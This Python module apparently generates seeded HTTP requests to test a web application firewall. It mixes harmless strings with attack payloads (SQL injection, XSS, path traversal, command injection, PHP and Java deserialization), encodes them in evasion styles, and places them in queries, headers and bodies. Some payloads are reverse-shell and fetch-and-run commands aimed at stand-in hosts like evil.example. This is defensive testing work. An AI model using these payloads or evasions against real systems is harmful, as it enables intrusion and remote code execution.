"""Requests to judge a WAF by: seeded, of many kinds of attack and of harmless traffic, in every place.

Pieces are put together at random, encoded in the ways attackers use, and placed in queries, paths, fields,
cookies and bodies of every content type. The same seed gives the same requests.
"""

import json
import random
from collections.abc import Callable
from urllib.parse import quote
from xml.sax.saxutils import escape, quoteattr

from worker.security.waf.transaction import HttpRequest

ATTACKS = {
    "sqli": [
        "1' or '1'='1", "1 union select 1,2,3--", "'; drop table users; --", "1 and sleep(5)", "admin'--",
        "1' and extractvalue(1,concat(0x7e,version()))--", "1;waitfor delay '0:0:5'", "' or 1=1#",
        "1/**/union/**/all/**/select/**/null,null", "(select(0)from(select(sleep(5)))v)", "1 having 1=1",
        "' group by users.id having 1=1 --", "1' order by 10--", "@@version", "0x414243",
        "1) or pg_sleep(5)--", "'||(select 1 from dual)||'", "-1 || 1=1",
        "x' and 1=(select count(*) from t); --", "1 procedure analyse(extractvalue(rand(),1),1)",
        "information_schema.tables", "exec xp_cmdshell('dir')", "{$ne: 1}", "[$regex]=^a", "1 like 1",
        "' xor '1", "a' between 'a' and 'b", "benchmark(5000000,md5(1))",
        "select * from users where id = 1", "load_file('/etc/passwd')", "into outfile '/tmp/x'",
        "1' div 1 -- x",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
        "<svg/onload=alert(1)>", '"><script src=//evil.example/x.js></script>',
        "<iframe src=javascript:alert(1)>", "<body onload=a()>", '<a href="javascript:alert(1)">x</a>',
        "<math><mtext><img src onerror=x>", "vbscript:msgbox(1)",
        "<style>@import'http://evil.example'</style>", "expression(alert(1))",
        "<meta http-equiv=refresh content=0>", "<base href=//evil.example/>", "<object data=x>",
        "<embed src=x>", "<form action=x><input>", "<link rel=x href=y>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "document.cookie", "<x onclick=alert`1`>",
        "`${alert(1)}`", "&#106;avascript:alert(1)", "\\u003cscript\\u003ealert(1)",
        '<?xml version="1.0"?><x/>', "[][(![]+[])]", "<applet code=x>", "<!ENTITY x SYSTEM 'y'>",
        "style=x:expression(1)", "window['alert'](1)", "fromCharCode(88)",
    ],
    "lfi": [
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php", "/proc/self/environ",
        "..%252f..%252fetc/passwd", "file:///etc/passwd", "/.git/config", "..;/..;/manager/html",
        ".htaccess", "boot.ini", "%2e%2e/%2e%2e/x", "/var/log/apache2/access.log", "web.config",
        "..%c0%afetc", "id_rsa", "%00.jpg", "/wp-config.php.bak",
    ],
    "rce": [
        "; cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& ping -c 1 127.0.0.1",
        "; wget http://evil.example/x", "() { :; }; echo vulnerable", "cmd.exe /c dir",
        "powershell -enc AAAA", "/bin/sh -c id", "nc -e /bin/sh 1.2.3.4 80", "{{7*7}}",
        "${jndi:ldap://evil.example/a}", "<%= 7*7 %>", "#{7*7}", "curl evil.example | sh", "; ls -la",
        "|| dir c:\\", "/???/c?t /???/p?ss??", "c'a't /etc/passwd", "for f in *; do echo $f; done",
        "bash -i >& /dev/tcp/1/2", "require('child_process').exec('id')", "process.env", "__proto__[x]=1",
        "constructor.prototype", "Invoke-Expression",
    ],
    "php": [
        "<?php system('id'); ?>", "<?= phpinfo() ?>", "eval(base64_decode('aWQ='))", 'O:8:"stdClass":0:{}',
        "$_GET['x']", "assert($x)", "preg_replace('/x/e','y','z')", "call_user_func('system','id')",
        "file_get_contents('x')", "allow_url_include=1", "phar://x.phar", "$GLOBALS[x]",
        "create_function('','')", "ini_set(x)", "${system(id)}", "array_map('x',$y)",
    ],
    "java": [
        "java.lang.Runtime.getRuntime().exec('id')", "%{(#a=1)}", "class.module.classLoader.x",
        "rO0ABXNyABE", "aced0005", "org.apache.commons.collections.functors",
        "ProcessBuilder('id').start()", "T(java.lang.Runtime)", "@java.lang.Math@abs(1)",
    ],
    "protocol": [
        "x\r\nSet-Cookie: a=b", "x\nLocation: http://evil.example", "GET / HTTP/1.1\r\nHost: x",
        "http://evil.example/shell.txt?", "https://1.2.3.4/x.php", "ftp://evil.example/x",
        "gopher://127.0.0.1:25/_x", "http://[::1]/", "*)(uid=*))(|(uid=*",
        "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "PHPSESSID=1",
        "document.cookie='jsessionid=1;domain=.x'", "\x00", "a\x00b", "%u0041%u0042", "%%%", "%zz",
        "\x7f\x80ÿ", "é", "\u200b", "<html><meta>", "\\x41\\u0041", "http-equiv=set-cookie",
    ],
}  # fmt: skip

HARMLESS = [
    "hello world", "O'Brien", "Müller & Söhne", "price < 100 and size > 5", "select a colour",
    "C:\\Users\\me", "it's 5 o'clock", "a=b", "1,2,3", "2026-11-26T12:00:00Z", "user@example.org",
    "https://www.example.org/page?x=1&y=2", "drop me a line", "Union Station", "the quick brown fox",
    "f(x) = x^2 + 1", "#hashtag", "50% off", "Rock'n'Roll", "+44 20 7946 0000", "日本語の検索",
    "SGVsbG8gd29ybGQ=", '{"a": 1}', "[1, 2]", "# Title\n\nsome *markdown* `code`",
    "if (a < b) { return c; }", "-5", "3.14", "", "query { user(id: 1) { name } }", "<3", "AT&T", '1\' 6"',
    "¿Qué?", "order by phone", "where is it? -- me", "cat food", "/path/to/file.txt", "c++", "x" * 300,
    "null", "true", "a;b;c", "1-2-3", "foo(bar)", "“quoted”", "tom & jerry; friends", "let's echo this",
    "a|b", "$5.00",
]  # fmt: skip

NAMES = [
    "id", "q", "name", "user", "page", "file", "url", "x", "search", "data", "cmd", "redirect", "items[]",
    "a.b", "comment", "token",
]  # fmt: skip
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", "curl/8.5.0",
    "sqlmap/1.7", "Nikto/2.5", "python-requests/2.32", "Googlebot/2.1", "", "nmap scripting engine",
    "() { :;}; /bin/id",
]  # fmt: skip
PATHS = [
    "/", "/index.php", "/a/b/c.html", "/api/v1/items", "/static/app.js", "/wp-login.php", "/images/x.png",
    "/x.bak", "/search", "/a%20b",
]  # fmt: skip

RANGES = "bytes=1-2,3-4,5-6,7-8,9-10,11-12"
ODD_FIELDS: list[tuple[str, list[str]]] = [  # without values: any text
    ("X-Forwarded-For", ["203.0.113.9"]),
    ("Range", ["bytes=0-1", RANGES, "x"]),
    ("Connection", ["keep-alive", "close", "keep-alive, close", "Upgrade"]),
    ("Content-Encoding", ["gzip"]),
    ("Proxy", ["http://x"]),
    ("If", ["x"]),
    ("X-Custom", []),
    ("Expect", ["100-continue"]),
    ("Translate", ["f"]),
    ("Content-Length", ["0", "5", "abc"]),
    ("Sec-Fetch-User", ["?1"]),
    ("Cache-Control", ["no-cache", "max-age=0, x"]),
    ("X-Filename", ["a.php", "a.jpg", "x.php.jpg"]),
    ("Authorization", ["Basic dXNlcjpwYXNz"]),
    ("Accept-Charset", ["utf-8"]),
    ("User-Agent", ["second"]),
    ("Request-Range", [RANGES]),
    ("x-up-devcap-post-charset", ["utf-7"]),
]
FILE_NAMES = ["a.txt", "x.php", "photo.jpg", "x.php.jpg", "a;b.html", "..", ".htaccess"]
FILE_TYPES = ["text/plain", "image/jpeg", "application/octet-stream", "text/html; charset=utf-7", "*/*"]

Encode = Callable[[str, random.Random], str]


def _double(text: str, rng: random.Random) -> str:
    return quote(quote(text, safe=""), safe="")


def _entities(text: str, rng: random.Random) -> str:
    return "".join(rng.choice((c, f"&#{ord(c)};", f"&#x{ord(c):x}")) for c in text)


def _upper(text: str, rng: random.Random) -> str:
    return "".join(rng.choice((c.upper(), c.lower())) for c in text)


def _comments(text: str, rng: random.Random) -> str:
    return text.replace(" ", rng.choice(("/**/", "/*x*/", "\t", "  ", "+", "\x0b", "\xa0")))


def _escapes(text: str, rng: random.Random) -> str:
    forms = (
        lambda c: c,
        lambda c: f"\\x{ord(c) & 255:02x}",
        lambda c: f"\\u{ord(c) & 0xFFFF:04x}",
        lambda c: f"%u{ord(c) & 0xFFFF:04x}",
    )
    return "".join(rng.choice(forms)(c) for c in text)


ENCODINGS: list[Encode] = [lambda text, rng: text] * 6 + [_double, _entities, _upper, _comments, _escapes]


class Generator:
    """An endless supply of requests from one seed."""

    def __init__(self, seed: int) -> None:
        self._rng = random.Random(seed)

    def request(self) -> HttpRequest:
        rng = self._rng
        method, path, query, version = (
            "GET",
            rng.choice(PATHS),
            "",
            rng.choice(("1.1",) * 12 + ("1.0", "2.0", "3", "0.9")),
        )
        fields: list[tuple[str, str]] = [
            ("Host", rng.choice(("www.example.org",) * 9 + ("192.0.2.7", "", "example.org:8080")))
        ]
        fields += [
            ("User-Agent", rng.choice(AGENTS)),
            ("Accept", rng.choice(("*/*", "text/html,application/xhtml+xml", ""))),
        ]
        fields += [("Accept-Language", "de,en;q=0.5"), ("Accept-Encoding", "gzip, deflate, br")]
        if rng.random() < 0.1:
            del fields[rng.randrange(len(fields))]
        if rng.random() < 0.7:
            query = "&".join(self._pair() for _ in range(rng.randint(1, 4)))
        if rng.random() < 0.3:
            fields.append(
                (
                    "Cookie",
                    "; ".join(f"{rng.choice(NAMES)}={self._header_text()}" for _ in range(rng.randint(1, 4))),
                )
            )
        if rng.random() < 0.2:
            fields.append(("Referer", "https://www.example.org/" + self._header_text()))
        if rng.random() < 0.2:
            fields.append(self._odd_field())
        if rng.random() < 0.1:
            path = "/" + quote(self._text(), safe=rng.choice(("", "/.", "/.;'()<>")))
        body = b""
        if rng.random() < 0.45:
            method = rng.choice(("POST",) * 6 + ("PUT", "PATCH", "GET"))
            content_type, body = self._body()
            if content_type:
                fields.append(("Content-Type", content_type))
            if rng.random() < 0.95:
                fields.append(("Content-Length", str(len(body))))
            else:
                fields.append(("Transfer-Encoding", "chunked"))
        elif rng.random() < 0.1:
            method = rng.choice(("HEAD", "OPTIONS", "DELETE", "TRACE", "PROPFIND", "FOO", "POST"))
        target = path + ("?" + query if query else "")
        target = target.replace("\0", "%00").replace(" ", "%20")
        return HttpRequest(
            method.encode(),
            target.encode("utf-8", "replace"),
            version.encode(),
            tuple((name.encode(), value.encode("utf-8", "replace")) for name, value in fields),
            body,
            "192.0.2.1",
        )

    # Pieces

    def _text(self) -> str:
        rng = self._rng
        if rng.random() < 0.45:
            text = rng.choice(HARMLESS)
            return text if rng.random() < 0.7 else text + " " + rng.choice(HARMLESS)
        text = rng.choice(ATTACKS[rng.choice(sorted(ATTACKS))])
        if rng.random() < 0.3:
            text = rng.choice(HARMLESS) + rng.choice(("", " ", "'", '"', ">")) + text
        if rng.random() < 0.15:
            text += rng.choice(ATTACKS[rng.choice(sorted(ATTACKS))])
        return rng.choice(ENCODINGS)(text, rng)

    def _header_text(self) -> str:
        text = "".join(c for c in self._text() if c not in "\r\n\0")
        return text if self._rng.random() < 0.6 else quote(text, safe="/")

    def _pair(self) -> str:
        rng = self._rng
        name = rng.choice(NAMES) if rng.random() < 0.93 else self._text()
        form = rng.random()
        if form < 0.04:
            return quote(name, safe="[]")
        value = self._text()
        safe = "" if form < 0.7 else "/:;=,'()<>\"!$*"
        raw = value.replace("&", "%26").replace("#", "%23")
        return f"{quote(name, safe='[]')}={quote(value, safe=safe) if form < 0.95 else raw}"

    def _odd_field(self) -> tuple[str, str]:
        name, values = self._rng.choice(ODD_FIELDS)
        return name, self._rng.choice(values) if values else self._header_text()

    # Bodies

    def _body(self) -> tuple[str, bytes]:
        kind = self._rng.random()
        if kind < 0.45:
            return self._form()
        if kind < 0.65:
            return self._json()
        if kind < 0.85:
            return self._multipart()
        if kind < 0.95:
            return self._xml()
        text = self._text().encode("utf-8", "replace")
        return self._rng.choice(
            ("text/plain", "", "application/octet-stream", "text/html; charset=utf-7")
        ), text

    def _form(self) -> tuple[str, bytes]:
        kinds = ("application/x-www-form-urlencoded",) * 6 + (
            "application/x-www-form-urlencoded; charset=utf-8",
            "application/x-www-form-urlencoded; charset=ibm037",
        )
        text = "&".join(self._pair() for _ in range(self._rng.randint(1, 5)))
        return self._rng.choice(kinds), text.encode("utf-8", "replace")

    def _json(self) -> tuple[str, bytes]:
        rng = self._rng
        document = self._json_value(3)
        if not isinstance(document, dict | list):
            document = {"value": document}
        text = json.dumps(document, ensure_ascii=rng.random() < 0.5)
        if rng.random() < 0.03:
            text = text[: len(text) // 2]
        return rng.choice(
            ("application/json",) * 5 + ("application/json; charset=utf-8", "text/json")
        ), text.encode("utf-8", "replace")

    def _json_value(self, depth: int) -> object:
        rng = self._rng
        kind = rng.random()
        if depth and kind < 0.35:
            return {rng.choice(NAMES): self._json_value(depth - 1) for _ in range(rng.randint(0, 4))}
        if depth and kind < 0.5:
            return [self._json_value(depth - 1) for _ in range(rng.randint(0, 3))]
        return rng.choice(
            (self._text(), self._text(), self._text(), rng.randint(-5, 10**6), 1.5, True, False, None)
        )

    def _multipart(self) -> tuple[str, bytes]:
        rng = self._rng
        boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
        parts = []
        for _ in range(rng.randint(1, 4)):
            head = f'Content-Disposition: form-data; name="{rng.choice(NAMES)}"'
            if rng.random() < 0.35:
                head += f'; filename="{rng.choice(FILE_NAMES)}"\r\nContent-Type: {rng.choice(FILE_TYPES)}'
            elif rng.random() < 0.1:
                head += "\r\nContent-Transfer-Encoding: base64"
            parts.append(f"--{boundary}\r\n{head}\r\n\r\n{self._text()}\r\n")
        end = f"--{boundary}--\r\n" if rng.random() < 0.97 else ""
        body = "".join(parts) + end
        if rng.random() < 0.05:
            body = body.replace("\r\n", "\n")
        kind = "multipart/form-data; boundary=" + (f'"{boundary}"' if rng.random() < 0.05 else boundary)
        return kind, body.encode("utf-8", "replace")

    def _xml(self) -> tuple[str, bytes]:
        rng = self._rng
        inner = "".join(
            f"<{name} a={quoteattr(self._xml_text())}>{escape(self._xml_text())}</{name}>"
            for name in rng.sample(["id", "name", "q", "item"], rng.randint(1, 3))
        )
        text = f'<?xml version="1.0"?><root>{inner}</root>'
        if rng.random() < 0.03:
            text = text.replace("</root>", "")
        return rng.choice(("text/xml", "application/xml", "application/soap+xml")), text.encode(
            "utf-8", "replace"
        )

    def _xml_text(self) -> str:
        return "".join(c for c in self._text() if c in "\t\n" or c >= " ")
